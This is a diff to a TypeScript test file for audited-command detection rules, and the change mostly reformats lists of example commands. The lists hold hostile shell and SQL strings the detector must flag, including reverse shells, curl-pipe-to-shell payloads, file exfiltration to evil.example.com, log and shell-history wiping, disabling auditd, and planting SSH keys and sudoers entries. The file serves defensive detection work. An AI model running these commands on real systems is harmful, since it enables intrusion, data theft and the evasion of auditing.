@@ -18,19 +18,52 @@ const EXAMPLES: Record<string, { match: string[]; ignore: string[] }> = {
     ignore: ["chmod 755 script.sh", "chmod 0755 script.sh", "chmod 1777 /tmp/shared", "chmod u+x run.sh"],
   },
   "Sudoers or administrator group changed": {
-    match: ["visudo", "echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "usermod -aG sudo bob", "sudo usermod -a -G wheel eve", "gpasswd -a bob sudo", "echo x | sudo tee -a /etc/sudoers"],
+    match: [
+      "visudo",
+      "echo 'bob ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
+      "usermod -aG sudo bob",
+      "sudo usermod -a -G wheel eve",
+      "gpasswd -a bob sudo",
+      "echo x | sudo tee -a /etc/sudoers",
+    ],
     ignore: ["cat /etc/sudoers.d/README", "usermod -aG docker bob", "groups bob"],
   },
   "Shell history cleared or disabled": {
-    match: ["history -c", "unset HISTFILE", "export HISTFILE=/dev/null", "export HISTSIZE=0", "set +o history", "> ~/.bash_history", "rm -f ~/.bash_history", "ln -sf /dev/null ~/.bash_history", "history -d 1042"],
+    match: [
+      "history -c",
+      "unset HISTFILE",
+      "export HISTFILE=/dev/null",
+      "export HISTSIZE=0",
+      "set +o history",
+      "> ~/.bash_history",
+      "rm -f ~/.bash_history",
+      "ln -sf /dev/null ~/.bash_history",
+      "history -d 1042",
+    ],
     ignore: ["history", "history | grep ssh", "cat ~/.bash_history", "echo $HISTFILE"],
   },
   "System logs deleted or truncated": {
-    match: ["rm -rf /var/log/*", "rm /var/log/auth.log", "shred -u /var/log/secure", "> /var/log/wtmp", "truncate -s 0 /var/log/syslog", "journalctl --vacuum-time=1s", "sudo journalctl --rotate", "cp /dev/null /var/log/messages"],
+    match: [
+      "rm -rf /var/log/*",
+      "rm /var/log/auth.log",
+      "shred -u /var/log/secure",
+      "> /var/log/wtmp",
+      "truncate -s 0 /var/log/syslog",
+      "journalctl --vacuum-time=1s",
+      "sudo journalctl --rotate",
+      "cp /dev/null /var/log/messages",
+    ],
     ignore: ["tail -f /var/log/syslog", "echo ok >> /var/log/app.log", "journalctl -u nginx --since today", "ls /var/log"],
   },
   "Auditing stopped or audit rules removed": {
-    match: ["auditctl -D", "auditctl -e 0", "systemctl stop auditd", "sudo systemctl disable rsyslog", "service auditd stop", "systemctl mask systemd-journald.service"],
+    match: [
+      "auditctl -D",
+      "auditctl -e 0",
+      "systemctl stop auditd",
+      "sudo systemctl disable rsyslog",
+      "service auditd stop",
+      "systemctl mask systemd-journald.service",
+    ],
     ignore: ["auditctl -l", "systemctl status auditd", "systemctl restart rsyslog", "auditctl -e 1"],
   },
   "File securely wiped": {
@@ -58,7 +91,14 @@ const EXAMPLES: Record<string, { match: string[]; ignore: string[] }> = {
     ignore: ["systemctl status", "echo rebooted", "init.sh"],
   },
   "Database password on the command line": {
-    match: ["mysql -u root -pS3cret prod", "mysqldump --password=hunter2 db", "PGPASSWORD=x psql -h db", "psql postgresql://app:pw@db/prod", "redis-cli -a secret", "sqlcmd -S db -U sa -P Passw0rd"],
+    match: [
+      "mysql -u root -pS3cret prod",
+      "mysqldump --password=hunter2 db",
+      "PGPASSWORD=x psql -h db",
+      "psql postgresql://app:pw@db/prod",
+      "redis-cli -a secret",
+      "sqlcmd -S db -U sa -P Passw0rd",
+    ],
     ignore: ["mysql -u root -p", "mysql -u root -p prod", "mysql -P 3306 -h db", "psql -h db -U app prod"],
   },
   "SSH password on the command line": {
@@ -66,7 +106,12 @@ const EXAMPLES: Record<string, { match: string[]; ignore: string[] }> = {
     ignore: ["sshpass -f ~/.pw ssh host", "ssh -p 2222 host"],
   },
   "HTTP credentials on the command line": {
-    match: ["curl -u admin:secret https://api.example.com", "curl --user bob:pw http://x", "wget --password=pw http://x/f", "curl https://bob:pw@example.com/a"],
+    match: [
+      "curl -u admin:secret https://api.example.com",
+      "curl --user bob:pw http://x",
+      "wget --password=pw http://x/f",
+      "curl https://bob:pw@example.com/a",
+    ],
     ignore: ["curl -u admin https://api.example.com", "curl https://example.com/a:b", "wget http://example.com/file"],
   },
   "Secret exported in an environment variable": {
@@ -74,7 +119,15 @@ const EXAMPLES: Record<string, { match: string[]; ignore: string[] }> = {
     ignore: ["export PATH=$PATH:/opt/bin", "echo $AWS_SECRET_ACCESS_KEY", "export DB_PASSWORD=$(cat /run/secret)"],
   },
   "Scheduled task edited or removed": {
-    match: ["crontab -e", "crontab -r", "crontab -u www-data -e", "crontab mycron.txt", "echo '* * * * * /tmp/x' >> /etc/crontab", "cp job /etc/cron.d/job", "at now + 1 minute"],
+    match: [
+      "crontab -e",
+      "crontab -r",
+      "crontab -u www-data -e",
+      "crontab mycron.txt",
+      "echo '* * * * * /tmp/x' >> /etc/crontab",
+      "cp job /etc/cron.d/job",
+      "at now + 1 minute",
+    ],
     ignore: ["crontab -l", "cat /etc/crontab", "ls /etc/cron.d/"],
   },
   "Service enabled at boot": {
@@ -82,11 +135,23 @@ const EXAMPLES: Record<string, { match: string[]; ignore: string[] }> = {
     ignore: ["systemctl is-enabled nginx", "systemctl status nginx", "systemctl disable x"],
   },
   "SSH authorized keys written": {
-    match: ["echo ssh-rsa AAA >> ~/.ssh/authorized_keys", "cat key.pub >> /root/.ssh/authorized_keys", "cp key /home/bob/.ssh/authorized_keys", "ssh-copy-id bob@host", "tee -a .ssh/authorized_keys"],
+    match: [
+      "echo ssh-rsa AAA >> ~/.ssh/authorized_keys",
+      "cat key.pub >> /root/.ssh/authorized_keys",
+      "cp key /home/bob/.ssh/authorized_keys",
+      "ssh-copy-id bob@host",
+      "tee -a .ssh/authorized_keys",
+    ],
     ignore: ["cat ~/.ssh/authorized_keys", "ls -la ~/.ssh"],
   },
   "Boot or logon script modified": {
-    match: ["echo '/tmp/x &' >> /etc/rc.local", "vim /etc/rc.local", "echo 'curl x|sh' >> ~/.bashrc", "sed -i 's/a/b/' /etc/profile", "cp evil.sh /etc/profile.d/evil.sh"],
+    match: [
+      "echo '/tmp/x &' >> /etc/rc.local",
+      "vim /etc/rc.local",
+      "echo 'curl x|sh' >> ~/.bashrc",
+      "sed -i 's/a/b/' /etc/profile",
+      "cp evil.sh /etc/profile.d/evil.sh",
+    ],
     ignore: ["cat /etc/rc.local", "source ~/.bashrc", "less /etc/profile"],
   },
   "Local account created": {
@@ -94,15 +159,32 @@ const EXAMPLES: Record<string, { match: string[]; ignore: string[] }> = {
     ignore: ["cat /etc/passwd", "id eve", "getent passwd eve"],
   },
   "Downloaded script run by a shell": {
-    match: ["curl http://x | sh", "curl -fsSL https://get.example.com | sudo bash", "wget -O- http://x/i.sh | bash", "curl http://x/a.py | python3", "bash <(curl -s http://x)", "sh -c \"$(curl -fsSL http://x)\""],
+    match: [
+      "curl http://x | sh",
+      "curl -fsSL https://get.example.com | sudo bash",
+      "wget -O- http://x/i.sh | bash",
+      "curl http://x/a.py | python3",
+      "bash <(curl -s http://x)",
+      'sh -c "$(curl -fsSL http://x)"',
+    ],
     ignore: ["curl -o install.sh http://x", "curl http://x | grep sh", "wget http://x/file.tar.gz", "curl -s https://x/health | jq ."],
   },
   "Interpreter one-liner with network access": {
-    match: ["python3 -c 'import urllib.request; exec(urllib.request.urlopen(\"http://x\").read())'", "python -c \"import socket,os;s=socket.socket()\"", "perl -e 'use IO::Socket; ...'", "ruby -e 'require \"net/http\"; Net::HTTP.get(...)'"],
+    match: [
+      "python3 -c 'import urllib.request; exec(urllib.request.urlopen(\"http://x\").read())'",
+      'python -c "import socket,os;s=socket.socket()"',
+      "perl -e 'use IO::Socket; ...'",
+      "ruby -e 'require \"net/http\"; Net::HTTP.get(...)'",
+    ],
     ignore: ["python3 -c 'print(1+1)'", "python3 script.py", "perl -e 'print 42'"],
   },
   "Reverse shell": {
-    match: ["nc -e /bin/sh 203.0.113.9 4444", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "socat tcp:x:4444 exec:/bin/sh", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f"],
+    match: [
+      "nc -e /bin/sh 203.0.113.9 4444",
+      "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+      "socat tcp:x:4444 exec:/bin/sh",
+      "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
+    ],
     ignore: ["nc -zv db 5432", "nc -l 8080", "ls /dev/tty"],
   },
   "Downloaded file made executable": {
@@ -110,7 +192,13 @@ const EXAMPLES: Record<string, { match: string[]; ignore: string[] }> = {
     ignore: ["wget http://x/file.tar.gz", "chmod +x build.sh"],
   },
   "Files copied to a remote host": {
-    match: ["scp /etc/hosts user@evil.example.com:/tmp/", "rsync -avz ./data backup.example.com:/srv/", "scp -r dump.sql bob@10.0.0.9:", "curl -T dump.sql ftp://x/", "curl -F file=@/etc/passwd http://x/up"],
+    match: [
+      "scp /etc/hosts user@evil.example.com:/tmp/",
+      "rsync -avz ./data backup.example.com:/srv/",
+      "scp -r dump.sql bob@10.0.0.9:",
+      "curl -T dump.sql ftp://x/",
+      "curl -F file=@/etc/passwd http://x/up",
+    ],
     ignore: ["scp bob@host:/var/log/app.log .", "rsync -av ./a ./b", "curl -s http://x/health"],
   },
   "File sent through a raw network socket": {
@@ -138,7 +226,12 @@ const EXAMPLES: Record<string, { match: string[]; ignore: string[] }> = {
     ignore: ["SELECT * FROM drop_zones", "CREATE TABLE t (id int)", "-- drop table x is not run here; SELECT 1", "DROP USER bob"],
   },
   "Database structure changed": {
-    match: ["ALTER TABLE users ADD COLUMN admin boolean", "alter database prod set x = 1", "CREATE OR REPLACE FUNCTION f() ...", "CREATE TRIGGER t AFTER INSERT ON x"],
+    match: [
+      "ALTER TABLE users ADD COLUMN admin boolean",
+      "alter database prod set x = 1",
+      "CREATE OR REPLACE FUNCTION f() ...",
+      "CREATE TRIGGER t AFTER INSERT ON x",
+    ],
     ignore: ["SELECT alter_ego FROM t", "CREATE TABLE t (id int)", "ALTER USER bob WITH PASSWORD 'x'"],
   },
   "DELETE without WHERE": {
@@ -150,11 +243,23 @@ const EXAMPLES: Record<string, { match: string[]; ignore: string[] }> = {
     ignore: ["UPDATE users SET active = false WHERE id = 7", "update t set a = 1\nwhere b = 2", "SELECT * FROM updates"],
   },
   "Privileges granted or account changed": {
-    match: ["GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'", "grant select on t to bob", "CREATE USER eve IDENTIFIED BY 'pw'", "ALTER USER root IDENTIFIED BY 'x'", "SET PASSWORD FOR 'root' = 'x'", "DROP ROLE auditor"],
+    match: [
+      "GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'",
+      "grant select on t to bob",
+      "CREATE USER eve IDENTIFIED BY 'pw'",
+      "ALTER USER root IDENTIFIED BY 'x'",
+      "SET PASSWORD FOR 'root' = 'x'",
+      "DROP ROLE auditor",
+    ],
     ignore: ["SELECT * FROM grants_log WHERE id = 1", "SELECT user FROM t WHERE id = 1"],
   },
   "Database account table read": {
-    match: ["SELECT user, authentication_string FROM mysql.user", "select * from pg_shadow", "SELECT rolpassword FROM pg_authid", "SELECT name FROM sys.sql_logins"],
+    match: [
+      "SELECT user, authentication_string FROM mysql.user",
+      "select * from pg_shadow",
+      "SELECT rolpassword FROM pg_authid",
+      "SELECT name FROM sys.sql_logins",
+    ],
     ignore: ["SELECT * FROM mysql.help_topic", "SELECT usename FROM pg_stat_activity"],
   },
   "User table dumped": {
@@ -162,7 +267,13 @@ const EXAMPLES: Record<string, { match: string[]; ignore: string[] }> = {
     ignore: ["SELECT * FROM users WHERE id = 1", "SELECT id, name FROM users WHERE id = 2", "SELECT * FROM users_audit", "SELECT * FROM users LIMIT 10"],
   },
   "Table exported to a file": {
-    match: ["COPY users TO '/tmp/u.csv'", "copy (select * from t) to stdout", "SELECT * FROM t INTO OUTFILE '/tmp/t'", "\\copy users to 'u.csv' csv", "BACKUP DATABASE prod TO DISK = 'x'"],
+    match: [
+      "COPY users TO '/tmp/u.csv'",
+      "copy (select * from t) to stdout",
+      "SELECT * FROM t INTO OUTFILE '/tmp/t'",
+      "\\copy users to 'u.csv' csv",
+      "BACKUP DATABASE prod TO DISK = 'x'",
+    ],
     ignore: ["COPY users FROM '/tmp/u.csv'", "SELECT * FROM t WHERE id = 1"],
   },
   "Operating system command from the database": {
@@ -224,9 +335,7 @@ describe("default audited-command rules", () => {
     });
     for (const line of lines) {
       for (const sessionType of ["terminal", "database"] as const) {
-        const alone = single
-          .filter((r) => r.sessionType === sessionType && r.compiled.test(line))
-          .map((r) => r.name);
+        const alone = single.filter((r) => r.sessionType === sessionType && r.compiled.test(line)).map((r) => r.name);
         expect(matchedNames(sessionType, line), `${sessionType}: ${line}`).toEqual(alone);
       }
     }
